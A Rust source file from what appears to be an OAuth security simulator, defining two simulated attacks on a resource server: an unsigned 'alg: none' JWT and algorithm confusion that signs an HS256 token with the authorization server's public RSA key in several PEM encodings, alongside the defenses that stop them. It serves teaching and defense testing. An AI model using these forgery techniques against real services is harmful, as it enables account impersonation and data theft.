//! `jwt-alg-none` and `jwt-alg-confusion`: a web attacker with no token at all forges
//! one for Alice and presents it to the RS. A careless RS lets the token's header pick
//! the verification algorithm (RFC 8725 §2.1).

use crate::attacks::playbook_parts::*;
use crate::attacks::setup::*;
use rand::RngCore;

use crate::actors::Defenses;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook, Purpose};
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::http_wire::{self, Response};
use crate::protocol::jwt::{self, ACCESS_TOKEN_TYP, AccessTokenClaims};
use crate::sim::Simulation;
use crate::sim::world::WorldBuilder;

pub const FORGER: &str = "forger";

/// How the token is forged.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Forgery {
    /// `alg: none`, no signature.
    None,
    /// `alg: HS256`, HMAC keyed with the AS's public RSA key.
    Hs256WithPublicKey,
}

pub struct ForgedJwt {
    forgery: Forgery,
    info: &'static AttackInfo,
}

/// What stops a forged token, whichever way it was forged.
const FORGERY_STOPPERS: &[Stopper] = &[
    Stopper::alone(
        DefenseId::AlgPinning,
        "the RS verifies RS256 only, never the header's choice (RFC 8725 §3.1)",
    ),
    Stopper::alone(
        DefenseId::TokenIntrospection,
        "the AS never issued this token, so it is not active (RFC 7662 §2.2)",
    ),
];

static NONE_INFO: AttackInfo = AttackInfo {
    id: "jwt-alg-none",
    title: "Unsigned access token (alg: none)",
    story: "Mallory writes an access token by hand: iss as.example, sub alice, aud rs.example, scope photos.read, \
            typ at+jwt — and the header says alg: none, with an empty signature. A resource server that lets the \
            header choose the algorithm accepts it without checking any signature.",
    capabilities: &[Capability::WebAttacker],
    setup: "Nothing beyond the standard world: the attacker needs no token and no account.",
    steps: &[
        "Forge an unsigned JWT access token for alice",
        "GET rs.example/photos with it",
    ],
    goal: "the RS hands the attacker Alice's photos for a token nobody signed",
    stoppers: FORGERY_STOPPERS,
    references: "RFC 8725 §2.1, §3.1; RFC 9068 §4",
};

static CONFUSION_INFO: AttackInfo = AttackInfo {
    id: "jwt-alg-confusion",
    title: "Algorithm confusion: HS256 keyed with the AS's public key",
    story: "Mallory downloads the AS's public key from its JWKS, turns it into the PEM text a JWK-to-PEM converter \
            prints, forges an access token for Alice with alg: HS256, and signs it with HMAC using that text as the \
            secret (trying the other common encodings if the first is refused). A resource server that lets the \
            header choose the algorithm passes its PEM public key to HMAC — and the signature checks out.",
    capabilities: &[Capability::WebAttacker],
    setup: "Nothing beyond the standard world: the JWKS is public.",
    steps: &[
        "GET as.example/jwks",
        "Forge an HS256 JWT for alice keyed with the public key's PEM text (then the other encodings)",
        "GET rs.example/photos with it",
    ],
    goal: "the RS hands the attacker Alice's photos for a token the attacker signed",
    stoppers: FORGERY_STOPPERS,
    references: "RFC 8725 §2.1, §3.1",
};

struct Forge {
    forgery: Forgery,
    /// HMAC secrets still to try, and the key id they belong to (algorithm confusion).
    guesses: Vec<(String, Vec<u8>)>,
    kid: Option<String>,
}

/// The attacker's guesses at the string a careless verifier feeds to HMAC, made from
/// the JWK it fetched, in the encodings real vulnerable setups used (RFC 8725 §2.1):
/// the key as PEM text the way JWK-to-PEM converters and `openssl` print it, the same
/// without its final line break (a key pasted into a config string), and the PKCS #1
/// form (`BEGIN RSA PUBLIC KEY`).
fn key_guesses(jwk: &jsonwebtoken::jwk::Jwk) -> Vec<(String, Vec<u8>)> {
    use crate::protocol::pem::{pem, rsa_public_key_der, rsa_spki_der};
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let jsonwebtoken::jwk::AlgorithmParameters::RSA(rsa) = &jwk.algorithm else {
        return Vec::new();
    };
    let (Ok(n), Ok(e)) = (
        URL_SAFE_NO_PAD.decode(&rsa.n),
        URL_SAFE_NO_PAD.decode(&rsa.e),
    ) else {
        return Vec::new();
    };
    let spki = pem("PUBLIC KEY", &rsa_spki_der(&n, &e));
    vec![
        ("the PEM public key".into(), spki.clone().into_bytes()),
        (
            "the PEM public key without its final line break".into(),
            spki.trim_end().as_bytes().to_vec(),
        ),
        (
            "the PKCS #1 PEM public key".into(),
            pem("RSA PUBLIC KEY", &rsa_public_key_der(&n, &e)).into_bytes(),
        ),
    ]
}

impl Forge {
    /// Signs the next guess and calls the API with it; `false` when none is left.
    fn try_next_guess(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>) -> bool {
        if self.guesses.is_empty() {
            return false;
        }
        let (how, secret) = self.guesses.remove(0);
        let token = jwt::sign_hs256(
            ACCESS_TOKEN_TYP,
            self.kid.as_deref(),
            &secret,
            &Self::claims(ctx),
        );
        ctx.note(format!(
            "Forger: signed an access token for alice with HS256, keyed with {how} built from the AS's JWKS."
        ));
        kit.call_api(ctx, http::Method::GET, &photos_api(), &token);
        true
    }

    fn claims(ctx: &mut Moves<'_, '_>) -> AccessTokenClaims {
        let now = ctx.now().unix_secs();
        AccessTokenClaims {
            iss: wk::AS_ISSUER.into(),
            sub: wk::ALICE.into(),
            aud: wk::RS_ORIGIN.into(),
            exp: now + 3600,
            iat: now,
            jti: format!("forged-{}", ctx.rng().next_u32()),
            client_id: wk::CLIENT_ID.into(),
            scope: "photos.read".into(),
            cnf: None,
        }
    }
}

impl Playbook for Forge {
    fn on_input(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>, name: &str, _value: &str) {
        if name != "forge" {
            return;
        }
        match self.forgery {
            Forgery::None => {
                let token = jwt::forge_unsigned(ACCESS_TOKEN_TYP, &Self::claims(ctx));
                ctx.note("Forger: wrote an access token for alice with alg none and no signature.");
                kit.call_api(ctx, http::Method::GET, &photos_api(), &token);
            }
            Forgery::Hs256WithPublicKey => {
                kit.send(
                    ctx,
                    http_wire::request(http::Method::GET, &format!("{}/jwks", wk::AS_ISSUER)),
                    "jwks",
                );
            }
        }
    }

    fn on_other_response(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        purpose: Purpose,
        resp: &Response,
    ) {
        if purpose != "jwks" {
            return;
        }
        let Ok(set) = serde_json::from_slice::<jsonwebtoken::jwk::JwkSet>(resp.body()) else {
            return;
        };
        let Some(key) = set.keys.first() else { return };
        self.kid = key.common.key_id.clone();
        self.guesses = key_guesses(key);
        self.try_next_guess(kit, ctx);
    }

    fn on_api(&mut self, kit: &mut Kit, ctx: &mut Moves<'_, '_>, resp: &Response) {
        if resp.status() == http::StatusCode::UNAUTHORIZED && !self.guesses.is_empty() {
            ctx.note("Forger: the RS refused that token; it tries the next encoding of the key.");
            self.try_next_guess(kit, ctx);
        }
    }
}

impl Attack for ForgedJwt {
    fn info(&self) -> &'static AttackInfo {
        self.info
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut sim = WorldBuilder::standard(seed, defenses).build();
        sim.add_actor(Box::new(Attacker::new(
            FORGER,
            "Attacker (token forger)",
            &[],
            Forge {
                forgery: self.forgery,
                guesses: Vec::new(),
                kid: None,
            },
        )));
        sim.push_script(instruct(
            FORGER,
            "forge",
            "Mallory forges an access token for Alice.",
        ));
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        holds_alices_photos(
            sim,
            FORGER,
            "the RS accepted a forged token and handed over Alice's photos",
        )
    }
}

pub static ALG_NONE: ForgedJwt = ForgedJwt {
    forgery: Forgery::None,
    info: &NONE_INFO,
};
pub static ALG_CONFUSION: ForgedJwt = ForgedJwt {
    forgery: Forgery::Hs256WithPublicKey,
    info: &CONFUSION_INFO,
};
